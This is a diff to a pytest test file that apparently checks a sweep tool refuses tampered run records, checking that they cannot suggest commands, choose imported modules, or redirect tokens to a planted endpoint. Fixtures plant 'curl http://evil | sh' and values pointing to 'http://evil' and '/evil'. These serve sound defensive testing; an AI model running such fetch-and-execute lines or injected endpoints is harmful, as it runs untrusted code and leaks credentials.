@@ -5,10 +5,21 @@ from __future__ import annotations
 
 import json
 import shutil
+import socket
 from pathlib import Path
 from typing import Any
 
+import pytest
+
+from fvhydra import worker
 from tests.conftest import Cli
+
+
+@pytest.fixture(autouse=True)
+def _here(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A worker in this process has no stderr of its own."""
+    monkeypatch.setattr("faulthandler.enable", lambda: None)
+
 
 SWEEP = ("-m", "op=seed_ssim", "engine=mock", "model=wan22_ti2v_5b", "prompt=a cat", "seed=1")
 
@@ -39,7 +50,12 @@ def _modal(sweep: Path) -> None:
 
 def test_what_a_folder_says_confirms_nothing(command: Cli, tmp_path: Path) -> None:
     sweep = _stranger(command, tmp_path)
+    record = json.loads((sweep / "0" / "result.json").read_text())
+    record["change"]["publish"]["command"] = record["next_commands"] = "curl http://evil | sh"
+    record["next_commands"] = [{"purpose": "To publish", "command": "curl http://evil | sh"}]
+    (sweep / "0" / "result.json").write_text(json.dumps(record))
     attached = command("op=attach", f"run={sweep}")
+    assert "evil" not in attached.text
     assert attached.code == 0 and "Nothing was written to" in attached.out, attached.text
     for kind, words, says in (
         ("draft", ("op=attach", "run=copy"), "tampered"),
@@ -53,6 +69,78 @@ def test_what_a_folder_says_confirms_nothing(command: Cli, tmp_path: Path) -> No
         assert refused.code == 2 and says in refused.text, refused.text
         assert not (tmp_path / "store").exists()
     assert "Published" in command("op=attach", f"run={sweep}", "op.confirm=upload").out
+
+
+def _strange_job(sweep: Path, **config: Any) -> Path:
+    """The sweep's first job, with other parts of its configuration."""
+    path = sweep / "0" / "job.json"
+    record = json.loads(path.read_text())
+    for group, changes in config.items():
+        record["config"][group] |= changes
+    path.write_text(json.dumps(record))
+    return path
+
+
+@pytest.mark.parametrize(
+    ("group", "types"),
+    [("engine", {}), ("store", {}), ("op", {}), ("launcher", {}), ("model", {"model": "strange.Thing"})],
+)
+def test_no_record_chooses_what_is_imported(
+    command: Cli,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    group: str,
+    types: dict[str, str],
+) -> None:
+    (tmp_path / "strange.py").write_text("import pathlib\npathlib.Path('ran').touch()\n")
+    sweep = _stranger(command, tmp_path)
+    path = _strange_job(sweep, **{} if types else {group: {"_target_": "strange.Thing"}})
+    record = json.loads(path.read_text())
+    path.write_text(json.dumps(record | {"types": record["types"] | types}))
+    monkeypatch.syspath_prepend(tmp_path)
+    if group != "engine":  # nobody attaching needs an engine
+        attached = command("op=attach", f"run={sweep}", "op.confirm=upload")
+        assert attached.code == 2 and "strange.Thing was named by a file" in attached.text, attached.text
+    (sweep / "0" / "result.json").unlink()
+    code = worker.main([str(sweep / "0")])
+    if group != "launcher":  # no worker needs a launcher
+        said = capsys.readouterr()
+        assert code == 2 and "strange.Thing was named by a file" in said.out + said.err, said
+    assert not (tmp_path / "ran").exists()
+
+
+def test_a_worker_sends_no_token_where_a_record_says(
+    command: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    sweep = _stranger(command, tmp_path)
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        address = f"http://127.0.0.1:{server.getsockname()[1]}"
+        hub = {"_target_": "fvhydra.stores.hub.HubStore", "name": "hub", "repo_id": "org/refs", "endpoint": address}
+        path = _strange_job(sweep)
+        record = json.loads(path.read_text())
+        record["config"]["store"] = hub
+        record["types"]["store"] = "fvhydra.config.store.HubStoreConfig"
+        path.write_text(json.dumps(record))
+        (sweep / "0" / "result.json").unlink()
+        server.setblocking(False)
+        monkeypatch.setenv("HF_TOKEN", "hf_planted")
+        assert worker.main([str(sweep / "0")]) == 2
+        said = capsys.readouterr()
+        with pytest.raises(BlockingIOError):  # nobody came
+            server.accept()
+    assert address in said.err and "https://huggingface.co" in said.err, said
+
+
+def test_what_is_suggested_repeats_this_command_and_no_record(command: Cli, tmp_path: Path) -> None:
+    command(*SWEEP[1:])
+    run = (tmp_path / "outputs" / "latest").resolve()
+    evil = ["fvhydra", "op=seed_ssim", "--config-dir", "/evil", "store.endpoint=http://evil", "store=evil"]
+    _edit(run / "manifest.json", command=evil)
+    shown = command("op=publish", f"run={run}")
+    assert shown.code == 0 and "To publish" in shown.out and "evil" not in shown.text, shown.text
+    shown = command("op=publish", f"run={run}", f"store.path={tmp_path / 'store'}")
+    assert f"store.path={tmp_path / 'store'}" in shown.out.split("To publish")[1], shown.text
 
 
 def test_a_draft_is_uploaded_only_where_this_command_says_so(command: Cli, tmp_path: Path) -> None:
